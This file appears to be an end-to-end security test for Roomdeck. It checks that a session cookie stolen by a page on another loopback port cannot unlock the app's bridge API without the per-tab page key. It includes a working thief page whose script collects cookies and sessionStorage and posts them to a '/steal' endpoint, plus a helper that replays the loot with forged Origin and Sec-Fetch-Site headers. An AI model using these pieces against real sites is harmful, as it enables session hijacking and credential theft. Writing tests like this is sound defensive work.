import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '../e2e/support/stack.ts';
import { signIn } from '../e2e/support/panel.ts';

/**
 * Attack: cookies are not scoped by port, and SameSite treats every 127.0.0.1
 * port as one site. The person opens Roomdeck's printed address; later a web page sends their
 * browser to a page served by any other program on another loopback port. That page collects the
 * browser's cookies for 127.0.0.1 (its own server receives them on a credentialed fetch), and the
 * thief replays them from Node with a forged Origin and Sec-Fetch-Site, which a non-browser can
 * send at will. The stolen cookie must open nothing: the host also wants the page's key, which
 * lives in the tab's sessionStorage (per origin, so per port) and never travels in a cookie.
 */

interface Loot {
  /** The Cookie header the browser sent to the thief's own server. */
  header: string;
  /** What the thief's page could read itself. */
  documentCookie: string;
  sessionStorage: string;
}

/** The other program: a loopback web server whose page collects everything it can. */
async function startThief(): Promise<{ url: string; loot: Promise<Loot>; server: Server }> {
  let deliver: (loot: Loot) => void = () => undefined;
  const loot = new Promise<Loot>((resolve) => {
    deliver = resolve;
  });
  const page = `<!doctype html><title>A page on another port</title><p>Nothing to see.</p>
<script>
  const storage = JSON.stringify(Object.fromEntries(Object.entries(sessionStorage)));
  fetch('/steal', {
    method: 'POST',
    credentials: 'include',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ documentCookie: document.cookie, sessionStorage: storage }),
  });
</script>`;
  const server = createServer((request: IncomingMessage, response) => {
    if (request.method === 'POST' && request.url === '/steal') {
      let body = '';
      request.setEncoding('utf8');
      request.on('data', (chunk: string) => {
        body += chunk;
      });
      request.on('end', () => {
        const read = JSON.parse(body) as Omit<Loot, 'header'>;
        deliver({ header: request.headers.cookie ?? '', ...read });
        response.writeHead(204).end();
      });
      return;
    }
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(page);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}/`, loot, server };
}

/** A bridge call from Node, dressed up as Roomdeck's own page as far as headers can be forged. */
async function replay(hostUrl: string, path: string, body: unknown, headers: Record<string, string>) {
  const response = await fetch(`${hostUrl}${path}`, {
    method: 'POST',
    headers: {
      origin: hostUrl,
      'sec-fetch-site': 'same-origin',
      'sec-fetch-mode': 'cors',
      'content-type': 'application/json',
      ...headers,
    },
    body: JSON.stringify(body),
    signal: AbortSignal.timeout(10_000),
  });
  return { status: response.status, body: (await response.json()) as unknown };
}

const UNAUTHORIZED = {
  ok: false,
  error: { code: 'ROOMDECK_BRIDGE_UNAUTHORIZED', message: expect.any(String) },
};

test('a cookie collected by a page on another loopback port opens nothing on the browser host', async ({
  browser,
  stack,
}) => {
  const thief = await startThief();
  const context = await browser.newContext();
  try {
    // The person opens the printed address and signs in: the browser now holds the host's cookie.
    const page = await context.newPage();
    await signIn(page, stack.host.url);

    // Later, another page sends the same browser to the thief's port.
    const lure = await context.newPage();
    await lure.goto(thief.url);
    const loot = await thief.loot;
    // The precondition of the attack: the browser did hand the host's session cookie over.
    expect(loot.header).toMatch(/roomdeck_session=/);
    // Nothing else of the host's is within the thief's reach: its sessionStorage is its own origin's.
    expect(loot.sessionStorage).toBe('{}');
    expect(loot.header + loot.documentCookie).not.toMatch(/page.?key/i);

    // Replayed from Node with everything a browser would say for Roomdeck's own page.
    const asked = [
      ['/bridge/session/status', {}],
      ['/bridge/systems/list', { limit: 10 }],
      ['/technician/bridge/systems/list', { limit: 10 }],
    ] as const;
    for (const [path, body] of asked) {
      const answer = await replay(stack.host.url, path, body, { cookie: loot.header });
      expect({ path, ...answer }).toEqual({ path, status: 401, body: UNAUTHORIZED });
    }

    // The page's key alone (which the thief cannot read, but suppose it leaked) opens nothing either.
    const key = (await page.evaluate(() => sessionStorage.getItem('roomdeck.pageKey'))) ?? '';
    expect(key).toMatch(/^[A-Za-z0-9_-]{43}$/);
    expect(loot.header).not.toContain(key);
    for (const [path, body] of asked) {
      const answer = await replay(stack.host.url, path, body, { 'x-roomdeck-page-key': key });
      expect({ path, ...answer }).toEqual({ path, status: 401, body: UNAUTHORIZED });
    }
    // Control: the same forged request with both, which only the page itself holds, is let in, so
    // the refusals above are the missing key's (or cookie's) doing, not the forged headers'.
    const both = await replay(
      stack.host.url,
      '/bridge/session/status',
      {},
      {
        cookie: loot.header,
        'x-roomdeck-page-key': key,
      },
    );
    expect(both.status).toBe(200);
    // Another session's key with the stolen cookie: no better.
    const forged = await replay(
      stack.host.url,
      '/bridge/session/status',
      {},
      {
        cookie: loot.header,
        'x-roomdeck-page-key': 'A'.repeat(43),
      },
    );
    expect(forged).toEqual({ status: 401, body: UNAUTHORIZED });

    // The live event stream (a GET: EventSource carries the key in the query) is no softer: the
    // stolen cookie with the page's forged headers, without the key or with another, gets nothing.
    for (const query of ['', '&key=' + 'A'.repeat(43)]) {
      for (const prefix of ['', '/technician']) {
        const stream = await fetch(
          `${stack.host.url}${prefix}/bridge/events?watcher=thief-0123456789${query}`,
          {
            headers: { cookie: loot.header, 'sec-fetch-site': 'same-origin', accept: 'text/event-stream' },
            signal: AbortSignal.timeout(10_000),
          },
        );
        expect({ prefix, query, status: stream.status, body: await stream.json() }).toEqual({
          prefix,
          query,
          status: 401,
          body: UNAUTHORIZED,
        });
      }
    }

    // The real page is untouched: after a reload (no token in the address) it is still signed in
    // and lists the rooms.
    await page.reload();
    const app = page.locator('main[data-screen]');
    await expect(app).not.toHaveAttribute('data-screen', /starting|sign-in/);
    if ((await app.getAttribute('data-screen')) === 'panel')
      await page.getByRole('button', { name: 'Change room' }).click();
    const rooms = page.getByRole('list', { name: 'Rooms' });
    await expect(rooms.getByRole('button').first()).toBeVisible();
    const status = await page.evaluate(async () => {
      const probe = await fetch('/bridge/session/status', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: '{}',
      });
      return probe.status;
    });
    // The bridge checks the key on every call, from the page's own origin too.
    expect(status).toBe(401);
  } finally {
    await context.close();
    await new Promise<void>((resolve) => thief.server.close(() => resolve()));
  }
});
